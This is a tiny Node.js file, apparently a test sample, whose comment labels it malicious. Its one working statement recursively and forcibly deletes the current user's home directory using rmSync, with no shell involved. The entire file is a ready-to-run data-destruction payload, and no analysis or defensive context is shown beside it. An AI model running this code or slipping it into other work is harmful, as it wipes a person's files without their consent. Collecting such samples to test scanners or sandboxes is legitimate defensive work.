// malicious: deletes the home directory without a shell
import { rmSync } from 'node:fs';
import { homedir } from 'node:os';

rmSync(homedir(), { recursive: true, force: true });
